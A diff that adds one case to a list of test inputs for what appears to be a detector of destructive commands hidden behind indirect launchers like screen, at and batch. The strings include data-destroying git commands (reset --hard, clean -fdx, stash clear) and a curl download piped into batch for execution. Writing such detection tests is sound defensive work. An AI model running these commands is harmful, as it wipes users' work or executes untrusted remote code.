@@ -78,6 +78,7 @@ LAUNCHED = [
     ("screen -d -m bash -c 'git clean -fdx'", "git.clean-force"),
     ("screen -S work -X stuff 'git reset --hard^M'", "git.reset-hard"),
     ("screen -S work -X exec git stash clear", "git.stash-clear"),
+    ('screen -S work -X "$ACTION" git reset --hard', "parse.unknown-code"),
     ("echo 'git reset --hard' | at now", "git.reset-hard"),
     ("at now + 5 minutes <<< 'git clean -fdx'", "git.clean-force"),
     ("curl -s https://example.com/x | batch", "parse.unknown-code"),
